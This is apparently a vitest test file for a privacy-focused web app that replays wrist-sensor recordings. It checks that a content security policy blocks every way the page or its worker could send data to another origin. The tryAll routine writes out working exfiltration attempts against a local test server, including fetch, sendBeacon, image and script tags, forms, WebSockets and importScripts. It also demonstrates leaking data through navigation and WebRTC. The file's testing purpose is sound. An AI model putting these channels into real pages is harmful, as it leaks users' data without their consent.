/**
 * No data leaves the page: code in it, however it tries, reaches no other server, from the page
 * and from its worker; and its own server sees nothing of a dropped recording.
 *
 * What a content security policy cannot stop is stated and tested as such, so that the README
 * does not claim more: a page may navigate itself away, with what it knows in the address.
 */
import { createSocket, type Socket } from "node:dgram";
import { once } from "node:events";
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { APP, playThrough, proof, ROOT, visit, type Visit } from "./browser.ts";
import { python, WRITE_E4 } from "./python.ts";
import { serve, type Serving } from "./server.ts";

let elsewhere: Serving;
let udp: Socket;
let datagrams = 0;

beforeAll(async () => {
  elsewhere = await serve(null);
  udp = createSocket("udp4");
  udp.on("message", () => datagrams++);
  udp.bind(0, "127.0.0.1");
  await once(udp, "listening");
});
afterAll(async () => {
  await elsewhere.stop();
  udp.close();
});

type Attempts = Record<string, string>;

/** Everything that code could try; what became of each. Runs in the page, so it is on its own. */
async function tryAll(other: string): Promise<Attempts> {
  const outcome: Attempts = {};
  const socket = other.replace("http", "ws");
  const settled = (target: EventTarget, good: string) =>
    new Promise<string>((done) => {
      target.addEventListener(good, () => done("arrived"));
      target.addEventListener("error", () => done("stopped"));
      setTimeout(() => done("nothing"), 1500);
    });
  const attempt = async (name: string, work: () => Promise<string> | string) => {
    outcome[name] = await Promise.resolve()
      .then(work)
      .catch(() => "stopped");
  };
  const inPage = typeof document !== "undefined";
  const all = [
    attempt("fetch", () =>
      fetch(`${other}/fetch`, { method: "POST", body: "secret", mode: "no-cors" }).then(
        () => "arrived",
      ),
    ),
    attempt("fetch keepalive", () =>
      fetch(`${other}/keepalive`, { keepalive: true, mode: "no-cors" }).then(() => "arrived"),
    ),
    attempt("WebSocket", () => settled(new WebSocket(`${socket}/socket`), "open")),
    attempt("EventSource", () => settled(new EventSource(`${other}/events`), "open")),
    attempt("import", () => import(/* @vite-ignore */ `${other}/module.js`).then(() => "arrived")),
  ];
  if (typeof XMLHttpRequest !== "undefined") {
    all.push(
      attempt("XMLHttpRequest", () => {
        const request = new XMLHttpRequest();
        request.open("POST", `${other}/xhr`);
        request.send("secret");
        return settled(request, "load");
      }),
    );
  }
  if (typeof WebTransport !== "undefined") {
    all.push(
      attempt("WebTransport", () =>
        new WebTransport(other.replace("http:", "https:")).ready.then(() => "arrived"),
      ),
    );
  }
  if (inPage) {
    const added = <K extends keyof HTMLElementTagNameMap>(tag: K, properties: object) => {
      const made = Object.assign(document.createElement(tag), properties);
      document.body.append(made);
      return made;
    };
    all.push(
      attempt("sendBeacon", () => (navigator.sendBeacon(`${other}/beacon`, "secret"), "nothing")),
      attempt("image", () => settled(added("img", { src: `${other}/image?secret` }), "load")),
      attempt("script", () => settled(added("script", { src: `${other}/script.js` }), "load")),
      attempt("stylesheet", () =>
        settled(added("link", { rel: "stylesheet", href: `${other}/style.css` }), "load"),
      ),
      attempt("preload", () =>
        settled(added("link", { rel: "preload", as: "image", href: `${other}/preload` }), "load"),
      ),
      attempt("prefetch", () =>
        settled(added("link", { rel: "prefetch", href: `${other}/prefetch` }), "load"),
      ),
      attempt("frame", () => (added("iframe", { src: `${other}/frame` }), "nothing")),
      attempt("object", () => (added("object", { data: `${other}/object` }), "nothing")),
      attempt("video", () => settled(added("video", { src: `${other}/video` }), "loadeddata")),
      attempt("font", () =>
        new FontFace("x", `url(${other}/font.woff2)`).load().then(() => "arrived"),
      ),
      attempt("worker", () => settled(new Worker(`${other}/worker.js`), "message")),
      attempt("style", () => {
        document.body.style.backgroundImage = `url(${other}/background)`;
        return "nothing";
      }),
      attempt("base", () => (added("base", { href: other }), "nothing")),
      attempt("form", () => {
        const form = added("form", { action: `${other}/form`, method: "post", target: "_self" });
        form.submit();
        return "nothing";
      }),
    );
  } else {
    all.push(
      attempt(
        "importScripts",
        () => (
          (self as unknown as { importScripts(url: string): void }).importScripts(
            `${other}/script.js`,
          ),
          "arrived"
        ),
      ),
    );
  }
  await Promise.all(all);
  await new Promise((done) => setTimeout(done, 500));
  return outcome;
}

describe.each([
  ["a server that sends the policy", true],
  ["a server that sends no header at all", false],
])("from %s", (_, headers) => {
  let server: Serving;
  let here: Visit;

  beforeAll(async () => {
    server = await serve(APP, { headers });
    here = await visit(server.origin);
    await proof(here.page);
  });
  afterAll(async () => {
    await here?.close();
    await server?.stop();
  });
  afterEach(() => {
    elsewhere.seen.length = 0;
    elsewhere.bytes = 0;
  });

  test("nothing that the page tries reaches another origin", async () => {
    const outcome = await here.page.evaluate(tryAll, elsewhere.origin);
    expect(Object.keys(outcome).length).toBeGreaterThanOrEqual(18);
    expect(Object.values(outcome)).not.toContain("arrived");
    expect(elsewhere.seen).toEqual([]);
    expect(elsewhere.bytes).toBe(0);
  });

  test("nor what its worker tries, which inherits the policy", async () => {
    const worker = here.page.workers().find((each) => each.url().startsWith("blob:"))!;
    const outcome = await worker.evaluate(tryAll, elsewhere.origin);
    expect(Object.keys(outcome).length).toBeGreaterThanOrEqual(6);
    expect(Object.values(outcome)).not.toContain("arrived");
    expect(elsewhere.seen).toEqual([]);
    expect(elsewhere.bytes).toBe(0);
  });
});

test("a whole session with a dropped recording: the server sees GETs of its own files, no more", async () => {
  const folder = mkdtempSync(join(tmpdir(), "onwrist-private-"));
  const server = await serve(APP);
  const here = await visit(server.origin, { offline: true });
  try {
    python(WRITE_E4, folder);
    await proof(here.page);
    await here.page.setInputFiles("#files", join(folder, "1560279825_A00204.zip"));
    await playThrough(here.page);
    expect(await here.page.locator("#log tbody tr").count()).toBeGreaterThan(10);
    expect(server.seen.length).toBeGreaterThan(5);
    for (const { method, url, bytes } of server.seen) {
      expect(method).toBe("GET");
      expect(bytes).toBe(0);
      expect(url).not.toContain("?");
      expect(existsSync(join(APP, url === "/" ? "index.html" : url)), url).toBe(true);
    }
    expect(elsewhere.seen).toEqual([]);
  } finally {
    await here.close();
    await server.stop();
    rmSync(folder, { recursive: true, force: true });
  }
});

test("the code names no other address, and never navigates", () => {
  const known = [
    "https://web.dev/cross-origin-isolation-guide/",
    "https://rolldown.rs/in-depth/bundling-cjs",
  ];
  const scripts = readdirSync(APP, { recursive: true, encoding: "utf8" }).filter((name) =>
    /\.m?js$/.test(name),
  );
  expect(scripts.length).toBeGreaterThanOrEqual(4);
  for (const script of scripts) {
    const text = readFileSync(join(APP, script), "utf8");
    const addresses = text.match(/\b(?:https?|wss?):\/\/[^"'`\s)]+/g) ?? [];
    // Only in messages: a guide that the engine's errors name.
    expect(
      addresses.filter((each) => !known.some((one) => each.startsWith(one))),
      script,
    ).toEqual([]);
    if (script.startsWith("assets/index")) {
      expect(text).not.toMatch(
        /location\s*=|location\.(?:assign|replace|href\s*=)|window\.open|RTCPeerConnection/,
      );
    }
  }
});

test("what the policy cannot stop is what the README says: navigation and WebRTC", async () => {
  const server = await serve(APP);
  const here = await visit(server.origin);
  try {
    await proof(here.page);
    const { port } = udp.address() as AddressInfo;
    await here.page.evaluate(async (address) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${address}` }] });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((done) => setTimeout(done, 500));
      peer.close();
    }, `127.0.0.1:${port}`);
    const throughWebRtc = datagrams > 0;
    await here.page.evaluate(
      (other) => void (location.href = `${other}/gone?secret`),
      elsewhere.origin,
    );
    await expect.poll(() => elsewhere.seen.length).toBeGreaterThan(0);
    const readme = readFileSync(join(ROOT, "examples/companion_web/README.md"), "utf8");
    expect(readme).toContain("navigate");
    expect(readme).toContain("WebRTC");
    console.log(`WebRTC reached a STUN server: ${throughWebRtc}`);
  } finally {
    await here.close();
    await server.stop();
  }
});
